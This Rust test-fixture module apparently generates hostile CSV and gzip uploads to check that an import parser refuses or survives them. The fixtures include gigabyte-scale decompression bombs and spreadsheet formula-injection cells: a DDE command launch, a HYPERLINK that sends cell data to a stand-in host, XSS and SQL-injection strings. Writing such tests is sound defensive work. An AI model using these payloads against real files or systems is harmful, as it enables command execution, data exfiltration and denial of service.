//! Tables in text: encodings, quotation marks, sizes, packed bombs, formulas; and profiles, which are tables too.

use super::bytes::{Random, gzip};
use super::{Fate, HostileFile, samples};

pub fn files() -> Vec<HostileFile> {
    [encodings(), shapes(), bombs(), formulas(), profiles()].into_iter().flatten().collect()
}

fn text() -> String {
    String::from_utf8(samples::csv()).unwrap()
}

fn encodings() -> Vec<HostileFile> {
    let utf16 = |text: &str| text.encode_utf16().flat_map(u16::to_le_bytes).collect::<Vec<u8>>();
    vec![
        HostileFile::table("table in utf-16 with half a letter", "csv", Fate::Either, move || {
            let mut bytes = [b"\xff\xfe".to_vec(), utf16(&text())].concat();
            bytes.pop();
            bytes
        }),
        HostileFile::table("table in utf-16 with lone surrogates", "csv", Fate::Either, move || {
            [b"\xff\xfe".to_vec(), utf16(&text()), b"\x00\xd8,\x00\x00\xdc\n\x00".to_vec()].concat()
        }),
        HostileFile::table("table in utf-16 without a mark", "csv", Fate::Refused, move || utf16(&text())),
        HostileFile::table("table in utf-32", "csv", Fate::Either, || {
            let letters = text().chars().flat_map(|c| u32::from(c).to_le_bytes()).collect::<Vec<u8>>();
            [b"\xff\xfe\0\0".to_vec(), letters].concat()
        }),
        HostileFile::table("table with two marks", "csv", Fate::Either, || {
            format!("\u{feff}\u{feff}{}", text()).into_bytes()
        }),
        HostileFile::table("table with the mark of the other order", "csv", Fate::Either, move || {
            [b"\xfe\xff".to_vec(), utf16(&text())].concat()
        }),
        HostileFile::table("table with noughts", "csv", Fate::Refused, || {
            text().replace("Suva", "Su\0va").into_bytes()
        }),
        HostileFile::table("table with bytes that are no text", "csv", Fate::Either, || {
            text()
                .into_bytes()
                .into_iter()
                .flat_map(|byte| if byte == b'u' { vec![0xff, 0xc0] } else { vec![byte] })
                .collect()
        }),
        HostileFile::table("table with overlong letters", "csv", Fate::Either, || {
            [
                text().into_bytes(),
                b"Fiji,Fiji,2014-03-01,Cocaine,1,Kilogram,\xc0\xaf\xe0\x80\xaf,\xf8\x88\x80\x80\x80\n"
                    .to_vec(),
            ]
            .concat()
        }),
        HostileFile::table("table with signs that hide", "csv", Fate::Either, || {
            text()
                .replace("Suva", "\u{202e}avuS\u{2066}\u{200b}\u{feff}\u{85}\u{2028}\u{7f}\u{1b}[2J")
                .into_bytes()
        }),
        HostileFile::table("table of one byte", "csv", Fate::Refused, || b"x".to_vec()),
        HostileFile::table("table of line ends", "csv", Fate::Refused, || vec![b'\n'; 1 << 20]),
        HostileFile::table("table of noise", "csv", Fate::Refused, || Random(77).bytes(1 << 20)),
    ]
}

fn shapes() -> Vec<HostileFile> {
    vec![
        HostileFile::table("table with a quotation mark that never closes", "csv", Fate::Refused, || {
            [text().into_bytes(), b"\"".to_vec(), b"a,b\n".repeat(3 << 20)].concat()
        }),
        HostileFile::table("table with a row of 5 MB", "csv", Fate::Refused, || {
            [text().into_bytes(), vec![b'x'; 5 << 20]].concat()
        }),
        HostileFile::table("table with a row of 200 MB", "csv", Fate::Refused, || {
            [text().into_bytes(), vec![b'x'; 200 << 20]].concat()
        }),
        HostileFile::table("table with 513 columns", "csv", Fate::Refused, || {
            format!("{}\n", "a,".repeat(512)).into_bytes()
        }),
        HostileFile::table("table with a million columns", "csv", Fate::Refused, || b",".repeat(1_000_000)),
        HostileFile::table("table with columns without end", "csv", Fate::Refused, || b"a;".repeat(20 << 20)),
        HostileFile::table("table with a hundred thousand quotation marks", "csv", Fate::Either, || {
            format!("{}{}\n", text(), "\"\"".repeat(100_000)).into_bytes()
        }),
        HostileFile::table("table whose rows grow", "csv", Fate::Refused, || {
            (1..600_usize).flat_map(|n| [b"x,".repeat(n), b"\n".to_vec()].concat()).collect()
        }),
        HostileFile::table("table with one delimiter after the other", "csv", Fate::Either, || {
            text().replace("Suva", "a;b|c\td").into_bytes()
        }),
        HostileFile::table("table with lines ended by carriage returns", "csv", Fate::Either, || {
            text().replace('\n', "\r").into_bytes()
        }),
        HostileFile::table("table with the same column a hundred times", "csv", Fate::Either, || {
            let head = "Date of Seizure,".repeat(100);
            format!("{head}\n{}\n", "2014-01-01,".repeat(100)).into_bytes()
        }),
        HostileFile::table("table with a heading of a megabyte", "csv", Fate::Refused, || {
            format!("{},b\n1,2\n", "Country of Seizure ".repeat(50_000)).into_bytes()
        }),
        HostileFile::table("table of a header only", "csv", Fate::Either, || {
            text().lines().next().unwrap().as_bytes().to_vec()
        }),
    ]
}

/// Members of a packed file follow one another; a small one unpacks to much, and is repeated.
fn members(piece: &[u8], times: usize) -> Vec<u8> {
    gzip(piece, (8 << 20) / piece.len()).repeat(times)
}

fn bombs() -> Vec<HostileFile> {
    let mut out = Vec::new();
    for (what, piece) in [
        ("noughts", "\0"),
        ("line ends", "\n"),
        ("commas", ","),
        ("quotation marks", "\""),
        ("short rows", "a,b\n"),
        ("blank rows", "          ,        \n"),
    ] {
        let what = format!("packed table of two gigabytes of {what}");
        out.push(HostileFile::table(&what as &str, "csv.gz", Fate::Refused, move || {
            members(piece.as_bytes(), 256)
        }));
    }
    out.push(HostileFile::table("packed table of rows of one kind", "csv.gz", Fate::Refused, || {
        let rows: String = text().lines().skip(1).map(|line| format!("{line}\n")).collect();
        [gzip(&samples::csv(), 1), members(rows.as_bytes(), 200)].concat()
    }));
    out.push(HostileFile::table("table packed twice", "csv.gz", Fate::Refused, || {
        gzip(&gzip(&samples::csv(), 1), 1)
    }));
    out.push(HostileFile::table("table packed with a wrong checksum", "csv.gz", Fate::Refused, || {
        let mut bytes = gzip(&samples::csv(), 1);
        let at = bytes.len() - 6;
        bytes[at] ^= 1;
        bytes
    }));
    out.push(HostileFile::table("packed table with a name without end", "csv.gz", Fate::Refused, || {
        [b"\x1f\x8b\x08\x08\0\0\0\0\0\x03".to_vec(), vec![b'a'; 8 << 20]].concat()
    }));
    out.push(HostileFile::table("packed workbook", "csv.gz", Fate::Refused, || {
        gzip(&samples::workbook(), 1)
    }));
    out
}

fn formulas() -> Vec<HostileFile> {
    let cells = [
        "=cmd|'/c calc'!A0",
        "=HYPERLINK(\"\"http://example.invalid/?\"\"&A1;\"\"open\"\")",
        "+1+1",
        "-2+3+cmd|'/c calc'!A0",
        "@SUM(1+1)",
        "\t=1+1",
        "＝1+1",
        "=IMPORTXML(\"\"http://example.invalid\"\";\"\"//a\"\")",
        "<img src=x onerror=alert(1)>",
        "'; DROP TABLE record; --",
    ];
    let file = |(number, cell): (usize, &'static str)| {
        HostileFile::table(
            format!("table with a cell that computes {number}"),
            "csv",
            Fate::Either,
            move || {
                let row = format!("Fiji,Fiji,2014-03-01,\"{cell}\",1.5,Kilogram,\"{cell}\",\"{cell}\"\n");
                format!("{}{row}", text()).into_bytes()
            },
        )
    };
    cells.into_iter().enumerate().map(file).collect()
}

fn profiles() -> Vec<HostileFile> {
    let file = |what: &str, fate, make: fn() -> Vec<u8>| {
        HostileFile::upload(format!("profile {what}"), "csv", fate, make)
    };
    vec![
        file("without samples", Fate::Refused, || b"x_um,z_um\n".to_vec()),
        file("with infinite heights", Fate::Refused, || b"x_um,z_um\n0,inf\n1,-inf\n".to_vec()),
        file("with numbers beyond numbers", Fate::Refused, || b"x_um,z_um\n0,1e999\n1,1\n".to_vec()),
        file("that goes back", Fate::Refused, || b"x_um,z_um\n2,1\n1,1\n0,1\n".to_vec()),
        file("that stands still", Fate::Refused, || {
            b"x_um,z_um\n".repeat(1).into_iter().chain(b"1,1\n".repeat(100_000)).collect()
        }),
        file("of a line of 60 MB", Fate::Refused, || {
            [b"x_um,z_um\n".to_vec(), vec![b'1'; 60 << 20]].concat()
        }),
        file("of a quotation mark that never closes", Fate::Refused, || {
            [b"x_um,z_um\n\"".to_vec(), b"1,2\n".repeat(4 << 20)].concat()
        }),
        file("of a million columns", Fate::Refused, || {
            [b"x_um,z_um\n".to_vec(), b"1,".repeat(1_000_000)].concat()
        }),
        file("of noughts", Fate::Refused, || [b"x_um,z_um\n".to_vec(), vec![0; 1 << 20]].concat()),
        file("of formulas", Fate::Refused, || b"x_um,z_um\n=1+1,=2+2\n".to_vec()),
        file("of a million jumps", Fate::Either, || {
            let rows = (0..1_000_000_u32).map(|n| format!("{}.{},{}\n", n, n * 7 % 10, n % 5));
            [b"x_um,z_um\n".to_vec(), rows.collect::<String>().into_bytes()].concat()
        }),
        file("in utf-16", Fate::Refused, || {
            "x_um,z_um\n0,1\n1,2\n".encode_utf16().flat_map(u16::to_be_bytes).collect()
        }),
    ]
}
